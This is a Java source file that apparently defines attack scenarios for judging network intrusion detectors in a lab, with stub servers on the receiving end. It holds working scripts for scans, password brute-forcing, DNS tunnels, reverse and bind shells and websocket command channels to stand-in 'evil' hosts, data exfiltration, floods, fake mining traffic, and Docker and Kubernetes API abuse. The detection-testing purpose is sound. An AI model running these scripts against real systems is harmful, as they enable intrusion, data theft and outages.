package dev.weir.standalone.lab;

import static dev.weir.standalone.lab.AttackScripts.WORDS;
import static dev.weir.standalone.lab.AttackScripts.dnsEnd;
import static dev.weir.standalone.lab.AttackScripts.repeated;
import static dev.weir.standalone.lab.AttackScripts.sshEnd;
import static dev.weir.standalone.lab.AttackScripts.tlsEnd;
import static dev.weir.standalone.lab.AttackScripts.typed;
import static dev.weir.standalone.lab.LabHost.API;
import static dev.weir.standalone.lab.LabHost.BACKUP;
import static dev.weir.standalone.lab.LabHost.BASTION;
import static dev.weir.standalone.lab.LabHost.BROKER;
import static dev.weir.standalone.lab.LabHost.CACHE;
import static dev.weir.standalone.lab.LabHost.CI;
import static dev.weir.standalone.lab.LabHost.DB;
import static dev.weir.standalone.lab.LabHost.EVILA;
import static dev.weir.standalone.lab.LabHost.EVILB;
import static dev.weir.standalone.lab.LabHost.JOB;
import static dev.weir.standalone.lab.LabHost.KAPI;
import static dev.weir.standalone.lab.LabHost.NEW;
import static dev.weir.standalone.lab.LabHost.NODE;
import static dev.weir.standalone.lab.LabHost.OPS;
import static dev.weir.standalone.lab.LabHost.ORDERS;
import static dev.weir.standalone.lab.LabHost.SCANNER;
import static dev.weir.standalone.lab.LabHost.SENSOR;
import static dev.weir.standalone.lab.LabHost.USERC;
import static dev.weir.standalone.lab.LabHost.WEB;
import static dev.weir.standalone.lab.LabHost.WEBB;

import dev.weir.standalone.lab.LabAttack.Listener;

/**
 * The attacks that detectors are judged by. Once a detector has been tuned on one, they become a catalogue such as
 * {@link FourthJudgingAttacks}, and others take their place.
 */
final class JudgingAttacks extends AttackCatalogue {
    private static final String GUESSES = "for i in $(seq %d); do echo Autumn$i; done > $FOLDER/tries-$$\n";

    /** Lets the system's own resolver ask the cluster's DNS server, as it does in a pod. */
    private static final String RESOLVER =
            "echo nameserver $DNS > $FOLDER/resolv-$$; mount --bind $FOLDER/resolv-$$ /etc/resolv.conf\n";

    JudgingAttacks() {
        super(true);
    }

    @Override
    void scans() {
        // Packets that no connection begins with: no flag at all, or all of SYN, FIN, URG and PSH.
        add("scan-scapy-odd-flags", "scapy", BROKER, 2, """
                timeout 45 /usr/bin/python3 - $API <<'END'
                import random, sys
                from scapy.all import IP, TCP, conf, send
                conf.verb = 0
                ports = random.sample(range(1, 1024), 90) + [22, 80, 443, 8080]
                random.shuffle(ports)
                for port in ports:
                    send(IP(dst=sys.argv[1]) / TCP(sport=random.randrange(30000, 60000), dport=port,
                                                   flags=random.choice(['', 'SFUP'])), inter=0.05)
                END
                """);
        // From a node that has been taken, where probes of its pods are nothing new.
        add("scan-tclsh-node", "tclsh", NODE, 20, """
                timeout 46 tclsh - $DB $CACHE <<'END'
                proc pause {ms} { after $ms {set done 1}; vwait done }
                for {set i 0} {$i < 130} {incr i} {
                  set host [lindex $argv [expr {int(rand() * 2) + 1}]]
                  if {[catch {socket -async $host [expr {int(rand() * 9000) + 1}]} end]} continue
                  pause 120
                  catch {close $end}
                  pause [expr {int(rand() * 250) + 50}]
                }
                END
                """);
        // Guesses names of services, as one does where the cluster's server gives no list.
        add("scan-dnsmap-services", "dnsmap", SENSOR, 5, RESOLVER + """
                printf '%s\\n' web www api app admin auth login db postgres mysql redis cache mongo kafka rabbitmq \\
                  broker mqtt queue orders cart pay billing search users items vault consul etcd grafana prometheus \\
                  kibana elastic jenkins gitlab registry argocd dashboard metrics logs backup ftp smtp mail proxy \\
                  gateway ingress test dev staging internal secret web-b > $FOLDER/words-$$
                for namespace in shop data kube-system; do
                  timeout 15 dnsmap $namespace.svc.cluster.local -w $FOLDER/words-$$ -d 60
                done
                """);
        add("scan-host-reverse-slow", "host", WEBB, 60, """
                for address in $(shuf -e 10.60.{1..6}.{10..18}); do
                  host -W 1 -R 1 $address $DNS; sleep 0.$((450 + RANDOM % 400))
                done
                """);
        add("scan-showmount", "showmount", CI, 2, """
                for h in $(shuf -e 10.60.7.{1..25} 10.60.8.{1..25} $WEB $API $DB $BACKUP $BASTION $BROKER); do
                  timeout -s KILL 0.5 showmount -e --no-headers $h; timeout -s KILL 0.3 rpcinfo -T tcp $h portmapper
                done
                """);
        add("scan-coap-outside", "coap-client-notls", EVILB, 5, """
                for h in $(shuf -e 10.60.7.{1..30} 10.60.8.{1..30} $SENSOR $BROKER $API); do
                  timeout 0.35 coap-client-notls -N -B 1 -m get coap://$h/.well-known/core; sleep 0.05
                done
                """);
        add("scan-ruby-day", "ruby", CACHE, 900, """
                timeout 48 ruby -rsocket -e '
                  ends = ((1..22).map { |i| "10.60.7.#{i}" } + (1..22).map { |i| "10.60.8.#{i}" } + ARGV)
                  ends.shuffle.each do |host|
                    begin Socket.tcp(host, [22, 445, 3389, 5985].sample, connect_timeout: 0.3).close
                    rescue SystemCallError
                    end
                    sleep 0.4 + rand * 0.4
                  end' $WEB $API $ORDERS $DB $BACKUP
                """);
        add("scan-node-outside-slow", "node", USERC, 120, """
                timeout 48 node -e '
                  const net = require("net");
                  const ports = [...Array(64).keys()].map(i => 20 + i * 131).sort(() => Math.random() - 0.5);
                  const next = () => {
                    if (!ports.length) return;
                    const end = net.connect({host: process.argv[1], port: ports.pop()});
                    end.on("error", () => {}).on("connect", () => end.destroy());
                    setTimeout(() => { end.destroy(); next(); }, 450 + Math.random() * 350);
                  };
                  next()' $WEBB
                """);
    }

    @Override
    void webScans() {
        add("http-recon-patator", "patator", SCANNER, 1, WORDS.formatted(250) + """
                timeout 45 patator http_fuzz url=http://shop.example/FILE0 resolve=shop.example:$WEB \\
                  0=$FOLDER/words-$$ -t 4 -x ignore:code=404
                """);
        // Looks for what an interface has, over the few connections that its client keeps.
        add("http-recon-node-api", "node", BASTION, 2, """
                timeout 45 node -e '
                  const http = require("http");
                  const agent = new http.Agent({keepAlive: true, maxSockets: 2});
                  const methods = ["GET", "HEAD", "OPTIONS"], paths = [];
                  for (const version of ["v1", "v2", "internal"])
                    for (const kind of "users accounts tokens keys orders invoices admin config debug".split(" "))
                      for (const id of ["", "/1", "/2", "/me", "/0", "/export"])
                        paths.push(`/api/${version}/${kind}${id}`);
                  const next = () => paths.length && http.request({host: process.argv[1], port: 8080, agent,
                      path: paths.shift(), method: methods[Math.floor(Math.random() * 3)]}, answer => {
                    answer.resume(); answer.on("end", () => setTimeout(next, 60));
                  }).on("error", next).end();
                  next(); next()' $API
                """);
        add("http-recon-lwp-slow", "lwp-request", EVILA, 60, """
                for path in $(shuf -e {old,new,test,dev}/{index,info,setup,install,shell,upload,db}.{php,asp}); do
                  timeout 2 lwp-request -m HEAD -t 1 http://$WEBB/$path; sleep 0.$((200 + RANDOM % 300))
                done
                """);
    }

    @Override
    void logins() {
        add("bruteforce-mariadb", "mariadb", JOB, 2, MARIADB_READY + """
                for i in $(seq 100); do
                  timeout 3 mariadb --no-defaults -h $DB -u admin -pAutumn$i -e 'select 1'; sleep 0.1
                done
                """, mariadbEnd());
        add(
                "bruteforce-patator-imap",
                "patator",
                SCANNER,
                3,
                GUESSES.formatted(60)
                        + "timeout 48 patator imap_login host=$BASTION user=orders password=FILE0 -t 4"
                        + " 0=$FOLDER/tries-$$",
                new Listener(BASTION, """
                        mkdir -p $FOLDER/mail/run
                        printf '%s\\n' 'protocols = imap' "listen = $BASTION" "base_dir = $FOLDER/mail/run" \\
                          'ssl = no' "state_dir = $FOLDER/mail" 'disable_plaintext_auth = no' \\
                          'auth_failure_delay = 1 secs' 'log_path = /dev/stderr' \\
                          'service anvil {' 'unix_listener anvil-auth-penalty {' 'mode = 0' '}' '}' \\
                          'passdb {' 'driver = static' 'args = password=none-guesses-it' '}' \\
                          'userdb {' 'driver = static' "args = uid=1000 gid=1000 home=$FOLDER/mail" '}' \\
                          > $FOLDER/dovecot.conf
                        exec dovecot -F -c $FOLDER/dovecot.conf
                        """));
        add("bruteforce-lftp-sftp-slow", "lftp", EVILB, 90, """
                for i in $(seq 22); do
                  HOME=$FOLDER/home-$$ timeout 4 lftp -c "set net:max-retries 1
                    set sftp:connect-program 'ssh -a -x -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null'
                    open -u deploy,Autumn$i sftp://$WEBB; ls"
                  sleep 0.$((300 + RANDOM % 600))
                done
                """);
        // A page that answers a wrong password with a page, as most do.
        add("bruteforce-hydra-form", "hydra", USERC, 2, GUESSES.formatted(150) + """
                timeout 50 hydra -q -t 4 -l admin -P $FOLDER/tries-$$ -s 8081 $ORDERS \\
                  http-post-form '/login:user=^USER^&password=^PASS^:F=wrong'
                """, new Listener(ORDERS, """
                        exec python3 - $ORDERS <<'END'
                        import sys, time
                        from http.server import BaseHTTPRequestHandler
                        from socketserver import ThreadingTCPServer
                        class Login(BaseHTTPRequestHandler):
                            def answer(self, page):
                                self.send_response(200)
                                self.send_header('Content-Length', str(len(page)))
                                self.end_headers()
                                self.wfile.write(page)
                            def do_GET(self):
                                self.answer(b'<form method=post>user password</form>')
                            def do_POST(self):
                                self.rfile.read(int(self.headers['Content-Length']))
                                time.sleep(0.1)
                                self.answer(b'<p>wrong user or password</p>' * 20)
                        ThreadingTCPServer((sys.argv[1], 8081), Login).serve_forever()
                        END
                        """));
        // One password for each of the users, at all hosts in turn, from a node.
        add("bruteforce-paramiko-spray-node", "python3", NODE, 30, """
                timeout 48 /usr/bin/python3 - $API $ORDERS $WEBB $BASTION <<'END'
                import random, sys, time
                import paramiko
                for user in 'root admin ubuntu deploy git backup postgres oracle jenkins test'.split():
                    for host in sys.argv[1:]:
                        client = paramiko.SSHClient()
                        client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
                        try:
                            client.connect(host, username=user, password='Autumn2026!', timeout=2, allow_agent=False,
                                           look_for_keys=False)
                        except (OSError, EOFError, paramiko.SSHException):
                            pass
                        client.close()
                        time.sleep(random.uniform(0.2, 0.6))
                END
                """);
    }

    private static final String MARIADB_READY =
            "for i in $(seq 80); do [ -e $FOLDER/maria/ready ] && break; sleep 0.25; done\n";

    /** A second store beside the first. It has a table of users, and an account for a report. */
    private static Listener mariadbEnd() {
        return new Listener(DB, """
                rm -rf $FOLDER/maria && mkdir -p $FOLDER/maria && chown mysql $FOLDER/maria
                mariadb-install-db --no-defaults --user=mysql --datadir=$FOLDER/maria/data --skip-test-db >/dev/null
                mariadbd --no-defaults --user=mysql --datadir=$FOLDER/maria/data --bind-address=$DB \\
                  --port=3306 --skip-name-resolve --socket=$FOLDER/maria/s --pid-file=$FOLDER/maria/p &
                until [ -S $FOLDER/maria/s ]; do sleep 0.2; done
                mariadb --no-defaults -S $FOLDER/maria/s <<END
                create database crm; use crm;
                create table users (id int, note char(200));
                insert into users select seq, repeat(md5(rand()), 6) from seq_1_to_120000;
                create user report identified by '%1$s'; grant select, lock tables on crm.* to report;
                create user admin identified by 'none-guesses-it';
                END
                touch $FOLDER/maria/ready
                wait
                """.formatted(LabServers.PASSWORD));
    }

    @Override
    void tunnels() {
        // A tunnel that nothing goes through: its questions keep it open.
        add(
                "dns-tunnel-iodine-cname-idle",
                "iodine",
                OPS,
                20,
                """
                timeout 40 iodine -f -r -L 0 -I 1 -T CNAME -O base64 -m 200 -P secret -d dnsi $DNS tunnel.example
                """,
                new Listener(EVILA, "exec iodined -f -c -P secret -d dnsu 10.92.0.1/24 tunnel.example"));
        // The system's own resolver asks; each name carries a little.
        add(
                "dns-tunnel-getent-drip",
                "getent",
                DB,
                120,
                RESOLVER
                        + repeated(
                                75,
                                "getent ahostsv4 $(od -An -N 15 -tx1 /dev/urandom | tr -d ' ').$i.relay.example",
                                480,
                                40),
                dnsEnd(EVILB, "relay.example", "10.66.66.66"));
        // A program comes in through answers; the questions are short and count up.
        add("dns-tunnel-ruby-download", "ruby", WEB, 10, """
                timeout 46 ruby -rresolv -e '
                  dns = Resolv::DNS.new(nameserver: [ARGV[0]])
                  dns.timeouts = 1
                  text = Resolv::DNS::Resource::IN::TXT
                  160.times { |i| dns.getresources("p#{i}.get.tunnel.example", text); sleep 0.15 }' $DNS
                """, new Listener(EVILA, """
                        exec /usr/bin/python3 - $EVILA <<'END'
                        import base64, os, socket, sys
                        import dns.flags, dns.message, dns.rdatatype, dns.rrset
                        end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                        end.bind((sys.argv[1], 53))
                        while True:
                            packet, peer = end.recvfrom(4096)
                            question = dns.message.from_wire(packet)
                            answer = dns.message.make_response(question)
                            answer.flags |= dns.flags.AA
                            asked = question.question[0]
                            if asked.rdtype == dns.rdatatype.TXT:
                                part = '"' + base64.b64encode(os.urandom(180)).decode() + '"'
                                answer.answer.append(dns.rrset.from_text(asked.name, 0, 'IN', 'TXT', part + ' ' + part))
                            end.sendto(answer.to_wire(), peer)
                        END
                        """));
    }

    @Override
    void channels() {
        add("c2-websocket-shell", "python3", API, 30, """
                timeout 48 /usr/bin/python3 - $EVILB <<'END'
                import asyncio, subprocess, sys
                import websockets
                async def serve():
                    async with websockets.connect(f'ws://{sys.argv[1]}:80/socket', ping_interval=5) as orders:
                        async for order in orders:
                            await orders.send(subprocess.run(order, shell=True, capture_output=True).stdout)
                asyncio.run(serve())
                END
                """, new Listener(EVILB, """
                        exec /usr/bin/python3 - $EVILB <<'END'
                        import asyncio, random, sys
                        import websockets
                        async def order(bot):
                            for i in range(20):
                                await asyncio.sleep(random.uniform(1, 2.5))
                                await bot.send(random.choice(['id', 'ps ax', 'ls -l /etc', 'cat /etc/passwd']))
                                await bot.recv()
                        async def main():
                            async with websockets.serve(order, sys.argv[1], 80):
                                await asyncio.Future()
                        asyncio.run(main())
                        END
                        """));
        add(
                "c2-wireguard-shell",
                "wireguard-go",
                BACKUP,
                60,
                WIREGUARD.formatted(
                                "wgc", "client", "10.91.0.2", "server", "endpoint $EVILA:51820 persistent-keepalive 5")
                        + """
                sleep 2
                timeout 40 socat tcp:10.91.0.1:7782 exec:/bin/sh
                kill %1
                """,
                new Listener(
                        EVILA,
                        """
                        wg genkey > $FOLDER/wg-client; wg genkey > $FOLDER/wg-server
                        """
                                + WIREGUARD.formatted("wgs", "server", "10.91.0.1", "client", "")
                                + typed(18, "id; ls -l /; ps") + " | ncat -l 7782; kill %1"));
        // Through a proxy that only passes bytes on.
        add("c2-corkscrew-ssh", "corkscrew", ORDERS, 40, """
                timeout 46 ssh $SSH -o ProxyCommand="corkscrew $EVILB 3128 $EVILB 22" -R 127.0.0.1:2299:127.0.0.1:22 \\
                  root@$EVILB \\
                  'for i in $(seq 20); do uptime; sleep 1.$((RANDOM % 9)); done'
                """, sshEnd(EVILB), new Listener(EVILB, """
                        printf 'Port 3128\\nListen %s\\nTimeout 600\\n' $EVILB > $FOLDER/tinyproxy.conf
                        exec tinyproxy -d -c $FOLDER/tinyproxy.conf
                        """));
        // The pod listens, and the intruder comes in.
        add(
                "c2-bind-shell-outside",
                "nc.openbsd",
                EVILB,
                30,
                "for i in 1 2 3; do " + typed(7, "uname -a; cat /etc/hosts")
                        + " | timeout 20 nc.openbsd -n -N $SENSOR 31337; sleep 3; done",
                new Listener(SENSOR, "exec socat tcp-listen:31337,bind=$SENSOR,fork,reuseaddr exec:/bin/sh"));
        add(
                "c2-httpie-jitter",
                "http",
                WEBB,
                90,
                repeated(
                        42,
                        "http --ignore-stdin --verify=no --timeout 2 --quiet https://$EVILA/api/status id==$RANDOM",
                        500,
                        80),
                tlsEnd(EVILA, 443));
        // Nothing is said for hours; the system itself keeps the connection open.
        add(
                "c2-socat-idle",
                "socat",
                OPS,
                600,
                """
                timeout 46 socat -T 90 tcp:$EVILB:8443,keepalive,keepidle=6,keepintvl=6,keepcnt=3 exec:/bin/sh
                """,
                new Listener(
                        EVILB,
                        "(sleep 2; echo hostname; sleep 40; echo id; sleep 2; echo exit; sleep 1)"
                                + " | socat - tcp-listen:8443,reuseaddr"));
        add("c2-python-ntp-port", "python3", WEB, 60, """
                timeout 48 python3 - $EVILA <<'END'
                import os, random, socket, sys, time
                for i in range(65):
                    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    end.settimeout(0.3)
                    end.sendto(os.urandom(random.choice([48, 48, 48, 300])), (sys.argv[1], 123))
                    try:
                        end.recvfrom(2048)
                    except OSError:
                        pass
                    end.close()
                    time.sleep(random.uniform(0.4, 0.8))
                END
                """, new Listener(EVILA, """
                        exec socat -T 1 udp-recvfrom:123,bind=$EVILA,fork,reuseaddr system:'head -c 48 /dev/urandom'
                        """));
        // Orders come through a broker outside at times of their own, over a connection that stays.
        add(
                "c2-mosquitto-outside",
                "mosquitto_sub",
                JOB,
                60,
                "timeout 47 mosquitto_sub -h $EVILB -p 8883 --cafile $FOLDER/tls.crt --insecure -k 5 -i agent7"
                        + " -t fleet/7/in",
                new Listener(
                        EVILB,
                        """
                        printf '%s\\n' "listener 8883 $EVILB" "certfile $FOLDER/tls.crt" "keyfile $FOLDER/tls.key" \\
                          'listener 1883 127.0.0.1' 'allow_anonymous true' 'user root' > $FOLDER/fleet.conf
                        mosquitto -c $FOLDER/fleet.conf & sleep 2
                        """ + repeated(25, "mosquitto_pub -h 127.0.0.1 -t fleet/7/in -m \"run $RANDOM\"", 1_700, 50)
                                + "\nwait"));
        add(
                "c2-lwp-bursts",
                "lwp-request",
                NEW,
                60,
                repeated(
                        16,
                        "for n in 1 2 3; do timeout 2 lwp-request -t 1 http://$EVILA:8000/$n.gif >/dev/null; done",
                        2_000,
                        30),
                AttackScripts.httpEnd(EVILA, 8_000));
        add("c2-dead-kcat", "kcat", ORDERS, 30, repeated(34, "timeout 0.4 kcat -b $EVILA:9092 -L -m 1", 380, 25));
        add("c2-dead-ruby-udp", "ruby", API, 60, """
                timeout 48 ruby -rsocket -e '
                  60.times do
                    end_ = UDPSocket.new
                    end_.send(Random.bytes(40 + rand(30)), 0, ARGV[0], 4500)
                    sleep 0.5 + rand * 0.25
                    end_.close
                  end' $SCANNER
                """, new Listener(SCANNER, """
                        nft 'add table ip gone; add chain ip gone in { type filter hook input priority 0; }
                          add rule ip gone in udp dport 4500 drop'
                        trap 'nft delete table ip gone' EXIT
                        sleep 90 & wait
                        """));
        // Works for a pool: takes jobs as they come and hands in shares at random times.
        add("mining-node-stratum", "node", JOB, 60, """
                timeout 48 node -e '
                  const end = require("net").connect(3333, process.argv[1]);
                  const line = message => JSON.stringify(message) + "\\n";
                  const say = (id, method, params) => end.write(line({id, jsonrpc: "2.0", method, params}));
                  const hex = n => require("crypto").randomBytes(n).toString("hex");
                  let id = 1;
                  end.on("connect", () => say(id++, "login", {login: hex(48), pass: "x", agent: "XMRig/6.21.0"}));
                  end.on("data", () => {}).on("error", () => {});
                  const share = () => {
                    say(id++, "submit", {id: "7", job_id: hex(8), nonce: hex(4), result: hex(32)});
                    setTimeout(share, 600 + Math.random() * 3000);
                  };
                  setTimeout(share, 2500);
                  setInterval(() => say(id++, "keepalived", {id: "7"}), 6000)' $EVILA
                """, poolEnd(EVILA, "net", "", 3_333));
        // Mines under TLS at the port of web servers, and comes back when the pool ends the connection.
        add(
                "mining-openssl-stratum-tls",
                "openssl",
                SENSOR,
                60,
                """
                for session in 1 2 3; do
                  (echo '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}'
                   echo '{"id":2,"method":"mining.authorize","params":["worker","x"]}'
                   for i in $(seq 9); do
                     sleep 1.$((RANDOM % 9))
                     echo '{"id":3,"method":"mining.submit","params":["worker","'$RANDOM'","00000000","5f2a'$RANDOM'"]}'
                   done) | timeout 15 openssl s_client -quiet -connect $EVILB:443
                  sleep 0.5
                done
                """,
                poolEnd(EVILB, "tls", "key: fs.readFileSync(\"tls.key\"), cert: fs.readFileSync(\"tls.crt\")", 443));
    }

    /** One end of a tunnel: device, own key, own address, the other's key, and where the other is. */
    private static final String WIREGUARD = """
            wireguard-go -f %1$s & sleep 1
            wg pubkey < $FOLDER/wg-%4$s > $FOLDER/wg-of-%1$s
            wg set %1$s listen-port 51820 private-key $FOLDER/wg-%2$s peer $(cat $FOLDER/wg-of-%1$s) \\
              allowed-ips 10.91.0.0/24 %5$s
            ip addr add %3$s/24 dev %1$s; ip link set %1$s up
            """;

    /** A pool of miners that sends jobs every few seconds and accepts all. */
    private static Listener poolEnd(LabHost host, String module, String options, int port) {
        return new Listener(host, """
                cd $FOLDER && exec node -e '
                  const fs = require("fs");
                  const hex = n => require("crypto").randomBytes(n).toString("hex");
                  require("%1$s").createServer({%2$s}, end => {
                    const job = () => end.write(JSON.stringify({jsonrpc: "2.0", method: "job", params: {blob: hex(76),
                      job_id: hex(8), target: "b88d0600", height: 3100000, seed_hash: hex(32)}}) + "\\n");
                    const jobs = setInterval(job, 2000 + Math.random() * 2500);
                    const accepted = JSON.stringify({id: 1, error: null, result: {status: "OK"}}) + "\\n";
                    end.on("data", () => end.write(accepted));
                    end.on("error", () => {}).on("close", () => clearInterval(jobs));
                    job();
                  }).listen(%3$d, process.argv[1])' $%4$s
                """.formatted(module, options, port, host.name()));
    }

    @Override
    void transfers() {
        add("exfil-borg", "borg", DB, 1, """
                mkdir $FOLDER/loot-$$ && for i in $(seq 12); do head -c 5000000 /dev/urandom > $FOLDER/loot-$$/$i; done
                export BORG_RSH="ssh $SSH" BORG_PASSPHRASE=theirs HOME=$FOLDER/home-$$ LC_ALL=C.UTF-8
                timeout 20 borg init -e repokey ssh://root@$EVILA$FOLDER/kept-$$
                timeout 35 borg create --compression none ssh://root@$EVILA$FOLDER/kept-$$::1 $FOLDER/loot-$$
                rm -rf $FOLDER/loot-$$
                """, sshEnd(EVILA));
        // One connection that stays, and a part each while.
        add("exfil-websocket-drip", "python3", ORDERS, 60, """
                timeout 48 /usr/bin/python3 - $EVILB <<'END'
                import asyncio, os, random, ssl, sys
                import websockets
                trust = ssl._create_unverified_context()
                async def drip():
                    async with websockets.connect(f'wss://{sys.argv[1]}:443/', ssl=trust) as end:
                        for i in range(32):
                            await end.send(os.urandom(random.randrange(500000, 900000)))
                            await asyncio.sleep(random.uniform(0.8, 1.6))
                asyncio.run(drip())
                END
                """, new Listener(EVILB, """
                        cd $FOLDER && exec /usr/bin/python3 - $EVILB <<'END'
                        import asyncio, ssl, sys
                        import websockets
                        keys = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
                        keys.load_cert_chain('tls.crt', 'tls.key')
                        async def take(end):
                            async for part in end:
                                pass
                        async def main():
                            async with websockets.serve(take, sys.argv[1], 443, ssl=keys):
                                await asyncio.Future()
                        asyncio.run(main())
                        END
                        """));
        add(
                "exfil-mariadb-dump",
                "mariadb-dump",
                CI,
                1,
                MARIADB_READY
                        + "for i in 1 2 3; do mariadb-dump --no-defaults -h $DB -u report -p$PGPASSWORD crm; done"
                        + " >/dev/null",
                mariadbEnd());
        // A dump that lies among the pages is fetched from outside in parts.
        add(
                "exfil-aria2-pull-outside",
                "aria2c",
                EVILA,
                1,
                """
                timeout 45 aria2c -q --no-conf --allow-overwrite -s 4 -x 4 -k 4M -d $FOLDER -o fetched-$$ \\
                  http://$WEB/shop/dump.sql
                rm -f $FOLDER/fetched-$$
                """,
                new Listener(WEB, "head -c 90000000 /dev/urandom > $FOLDER/www/shop/dump.sql; sleep 60"));
    }

    @Override
    void floods() {
        add("ddos-hey", "hey", EVILA, 1, "hey -z 6s -c 40 -q 15 -disable-keepalive http://$WEB/shop/page1");
        add(
                "ddos-t50-syn",
                "t50",
                NEW,
                1,
                "for i in $(seq 15); do t50 $WEBB --protocol TCP -S --saddr $NEW --dport 8080 --threshold 600;"
                        + " sleep 0.25; done");
        add(
                "ddos-slow-post",
                "slowhttptest",
                SCANNER,
                2,
                "timeout 30 slowhttptest -B -c 300 -r 100 -i 4 -s 8192 -x 20 -u http://$API:8080/items/1 -p 3 -l 25");
        // Connections that are opened and held until there are no more to be had.
        add("ddos-python-held", "python3", CI, 3, """
                ulimit -n 4000
                timeout 40 python3 - $DB <<'END'
                import socket, sys, time
                held = []
                for i in range(700):
                    try:
                        held.append(socket.create_connection((sys.argv[1], 5432), 1))
                    except OSError:
                        pass
                    time.sleep(0.005)
                time.sleep(15)
                END
                """);
    }

    @Override
    void lateral() {
        // A node's engine that takes orders from anyone who reaches it.
        add("lateral-docker", "docker", API, 10, """
                export HOME=$FOLDER/home-$$ DOCKER_API_VERSION=1.40
                engine() { timeout 5 docker -H tcp://$NODE:2375 "$@"; sleep 1; }
                engine version; engine ps -a; engine images; engine info; engine inspect web-0
                for i in 1 2 3; do engine create --privileged -v /:/host shop/web chroot /host; engine start web-0; done
                engine ps -a
                """, new Listener(NODE, """
                        exec python3 - $NODE <<'END'
                        import json, sys
                        from http.server import BaseHTTPRequestHandler
                        from socketserver import ThreadingTCPServer
                        one = {'Id': 'c0ffee' * 10, 'Names': ['/web-0'], 'Name': '/web-0', 'Image': 'shop/web',
                               'Command': 'nginx', 'Created': 1790000000, 'State': 'running', 'Status': 'Up 3 days',
                               'Ports': [], 'Labels': {}}
                        class Engine(BaseHTTPRequestHandler):
                            protocol_version = 'HTTP/1.1'
                            def answer(self, code, value):
                                page = json.dumps(value).encode()
                                self.send_response(code)
                                self.send_header('Content-Type', 'application/json')
                                self.send_header('Api-Version', '1.40')
                                self.send_header('Content-Length', str(len(page)))
                                self.end_headers()
                                self.wfile.write(page)
                            def do_HEAD(self):
                                self.send_response(200)
                                self.send_header('Api-Version', '1.40')
                                self.send_header('Content-Length', '0')
                                self.end_headers()
                            def do_GET(self):
                                lists = '/containers/json' in self.path or '/images/json' in self.path
                                self.answer(200, [one] if lists else one)
                            def do_POST(self):
                                self.rfile.read(int(self.headers.get('Content-Length') or 0))
                                self.answer(201, {'Id': 'c0ffee' * 10, 'Warnings': []})
                        ThreadingTCPServer((sys.argv[1], 2375), Engine).serve_forever()
                        END
                        """));
        // Copies a program to the shares of other hosts with an account that it has found.
        add("lateral-smbclient-copy", "smbclient", ORDERS, 10, """
                head -c 900000 /dev/urandom > $FOLDER/tool-$$
                for h in $BACKUP $BASTION $WEB; do
                  for run in "put $FOLDER/tool-$$ svc.exe" ls "get svc.exe /dev/null"; do
                    timeout 5 smbclient //$h/VAULT -U deploy%none-guesses-it -c "$run"; sleep 0.7
                  done
                done
                """, smbEnd(BACKUP), smbEnd(BASTION), smbEnd(WEB));
        // From a pod to the host below it, and to the cluster's own.
        add("lateral-dbclient-node", "dbclient", SENSOR, 20, """
                dropbearconvert openssh dropbear $FOLDER/key $FOLDER/drop-$$
                for i in 1 2; do
                  for h in $NODE $KAPI; do
                    timeout 9 dbclient -y -y -i $FOLDER/drop-$$ root@$h \\
                      'for i in 1 2 3; do ps ax | head -20; sleep 1; done' </dev/null
                    sleep 1
                  done
                done
                """, sshEnd(NODE), sshEnd(KAPI));
        add("lateral-pod-to-apiserver-node", "node", WEBB, 10, """
                timeout 45 node -e '
                  const https = require("https");
                  const paths = ["/version", "/api", "/apis", "/api/v1/namespaces", "/api/v1/nodes"];
                  for (const namespace of ["shop", "data", "ops", "kube-system"])
                    for (const kind of ["secrets", "pods", "configmaps", "serviceaccounts/default/token"])
                      paths.push(`/api/v1/namespaces/${namespace}/${kind}`);
                  const next = () => paths.length && https.get({host: process.argv[1], port: 6443, path: paths.shift(),
                      agent: false, rejectUnauthorized: false, headers: {Authorization: "Bearer stolen"}}, answer => {
                    answer.resume(); answer.on("end", () => setTimeout(next, 400 + Math.random() * 800));
                  }).on("error", next);
                  next()' $KAPI
                """);
    }

    /** A server of files with an account that the intruder knows. */
    private static Listener smbEnd(LabHost host) {
        return new Listener(host, """
                mkdir -p $FOLDER/share-%1$s
                exec /usr/bin/python3 - $%2$s $FOLDER/share-%1$s <<'END'
                import sys
                from impacket.ntlm import compute_lmhash, compute_nthash
                from impacket.smbserver import SimpleSMBServer
                server = SimpleSMBServer(sys.argv[1], 445)
                server.addShare('VAULT', sys.argv[2], readOnly='no')
                server.setSMB2Support(True)
                password = 'none-guesses-it'
                server.addCredential('deploy', 0, compute_lmhash(password), compute_nthash(password))
                server.start()
                END
                """.formatted(host.host(), host.name()));
    }
}
